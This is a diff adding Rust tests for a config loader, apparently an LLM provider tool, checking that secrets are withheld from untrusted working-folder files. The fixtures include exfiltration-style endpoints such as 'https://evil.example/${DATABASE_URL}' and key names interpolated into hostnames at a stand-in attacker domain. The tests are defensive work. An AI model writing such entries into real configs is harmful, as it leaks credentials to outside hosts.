@@ -1,7 +1,7 @@
 //! Keys do not go to strangers: hostile files, and whom they reach before a person allowed it.
 
 use crate::config::{KEYS, Place, profile};
-use lmdeck::adapters::config::ConfigFile;
+use lmdeck::adapters::config::{ConfigFile, Source};
 use lmdeck::domain::config::WithheldWhy;
 use lmdeck::engine::ports::ConfigStore as _;
 use lmdeck::engine::protocol::{EditReport, Refusal};
@@ -124,6 +124,72 @@ fn a_key_smuggled_out_by_another_field_is_held_back_too() {
 }
 
 #[test]
+fn no_variable_goes_out_by_a_file_that_merely_lies_in_the_working_folder_whatever_its_name() {
+    let variables: &[(&str, &str)] = &[("DATABASE_URL", "postgres-me-pw-db"), ("TEAM", "blue"), ("GPU", "10.0.0.7")];
+    for (entry, asks) in [
+        ("{ id: a, type: openai_compatible, endpoint: 'https://evil.example/${DATABASE_URL}' }", true),
+        ("{ id: a, type: openai_compatible, endpoint: 'https://${TEAM}.evil.example' }", true),
+        ("{ id: a, type: openai_compatible, endpoint: 'http://127.0.0.1:9/${TEAM}' }", true),
+        ("{ id: a, type: openai_compatible, endpoint: 'http://127.0.0.1:9', models: ['m-${DATABASE_URL}'] }", true),
+        ("{ id: a, type: openai_compatible, endpoint: 'https://evil.example/${NONE:-x}' }", false),
+        ("{ id: a, type: openai_compatible, endpoint: '${GPU}' }", false),
+        ("{ id: a, type: openai_compatible, endpoint: 'http://127.0.0.1:9' }", false),
+    ] {
+        let place = Place::new();
+        place.write(HERE, format!("providers:\n  - {entry}\n"));
+        let store = || ConfigFile::open(place.source(None, variables));
+        let loaded = store().load().unwrap();
+        let withheld = profile(&loaded, "a").withheld.clone();
+        let untrusted = withheld.as_ref().is_some_and(|held| matches!(held.why, WithheldWhy::Untrusted { .. }));
+        assert_eq!(untrusted, asks, "{entry}: {withheld:?}");
+        allow(&store()).unwrap();
+        assert_eq!(profile(&store().load().unwrap(), "a").withheld, None, "allowed: {entry}");
+        // Named by the person it is the person's own file.
+        let named = ConfigFile::open(place.source(Some(HERE), variables)).load().unwrap();
+        assert_eq!(profile(&named, "a").withheld, None, "{entry}");
+    }
+    // Nor by what names a model of it, or goes into a prompt.
+    for rest in [
+        "routing: { policies: [{ name: p, use: ['a/${DATABASE_URL}'] }] }",
+        "routing: { request_priorities: { chat: ['a/${DATABASE_URL}'] } }",
+        "model_selection: { request_priorities: { chat: ['a/${DATABASE_URL}'] } }",
+        "presets: { p: { prompt: '{{x}}', defaults: { x: '${DATABASE_URL}' } } }",
+    ] {
+        let place = Place::new();
+        place.write(
+            HERE,
+            format!("providers:\n  - {{ id: a, type: vllm, endpoint: 'https://evil.example' }}\n{rest}\n"),
+        );
+        let loaded = ConfigFile::open(place.source(None, variables)).load().unwrap();
+        let withheld = profile(&loaded, "a").withheld.clone();
+        assert!(withheld.is_some_and(|held| matches!(held.why, WithheldWhy::Untrusted { .. })), "{rest}");
+    }
+    // A key by its name is nothing for an address, whoever wrote it.
+    for name in ["SECRET_KEY", "DB_PASS", "MYSQL_PWD", "GH_PAT"] {
+        let place = Place::new();
+        let endpoint = format!("https://${{{name}}}.evil.example");
+        place.write(HERE, format!("providers:\n  - {{ id: a, type: openai_compatible, endpoint: '{endpoint}' }}\n"));
+        let unusable = ConfigFile::open(place.source(None, &[(name, "swordfish")])).load().unwrap_err();
+        assert!(unusable.issues.iter().any(|issue| issue.message.contains("which is a key")), "{unusable:?}");
+    }
+}
+
+#[test]
+fn an_address_of_the_working_folder_s_dot_env_carries_no_variable_of_the_person_unasked() {
+    let place = Place::new();
+    place.write(
+        "home/lmdeck/ai_models.yaml",
+        "providers:\n  - { id: a, type: vllm, endpoint: '${SERVER}/${TEAM}', models: ['${MODEL}'] }\n",
+    );
+    place.write("work/.env", "SERVER=http://192.168.0.66:9\nMODEL=small\n");
+    let store = || ConfigFile::open(place.source(None, &[("TEAM", "blue")]));
+    let asked = store().load().unwrap().config.untrusted.clone();
+    assert_eq!(asked.iter().map(|journey| journey.variable.as_str()).collect::<Vec<_>>(), ["TEAM"]);
+    allow(&store()).unwrap();
+    assert_eq!(profile(&store().load().unwrap(), "a").withheld, None);
+}
+
+#[test]
 fn a_dot_env_of_the_working_folder_does_not_send_other_variables_away() {
     // Of the real environment too: HOME stands for any secret in it.
     let home = std::env::var("HOME").unwrap_or_default();
@@ -176,6 +242,30 @@ fn an_address_that_a_dot_env_of_the_working_folder_chose_gets_no_key_before_that
     );
     place.write("work/.env", "SERVER=http://192.168.0.66:9\nTOKEN=abc\n");
     assert!(goes(&ConfigFile::open(place.source(None, KEYS))));
+}
+
+#[test]
+fn what_was_allowed_in_one_working_folder_stays_allowed_when_another_asks() {
+    let place = Place::new();
+    let file = "providers:\n  - { id: a, type: vllm, endpoint: '${GPU}', authToken: '${MY_TOKEN}' }\n";
+    place.write("home/lmdeck/ai_models.yaml", file);
+    place.write("one/.env", "GPU=http://192.168.0.66:9\n");
+    place.write("two/.env", "GPU=http://192.168.0.77:9\n");
+    let from = |folder: &str| {
+        let source = place.source(None, &[("MY_TOKEN", "abc")]);
+        ConfigFile::open(Source { working_folder: place.path(folder), ..source })
+    };
+    for folder in ["one", "two"] {
+        assert!(!goes(&from(folder)), "{folder}");
+        allow(&from(folder)).unwrap();
+        assert!(goes(&from(folder)), "{folder}");
+    }
+    assert!(goes(&from("one")), "the other's decision took nothing away");
+    // With its provider a decision goes; one by the same name is asked about anew.
+    place.write("home/lmdeck/ai_models.yaml", "providers: []\n");
+    allow(&from("one")).unwrap();
+    place.write("home/lmdeck/ai_models.yaml", file);
+    assert!(!goes(&from("one")) && !goes(&from("two")));
 }
 
 #[test]
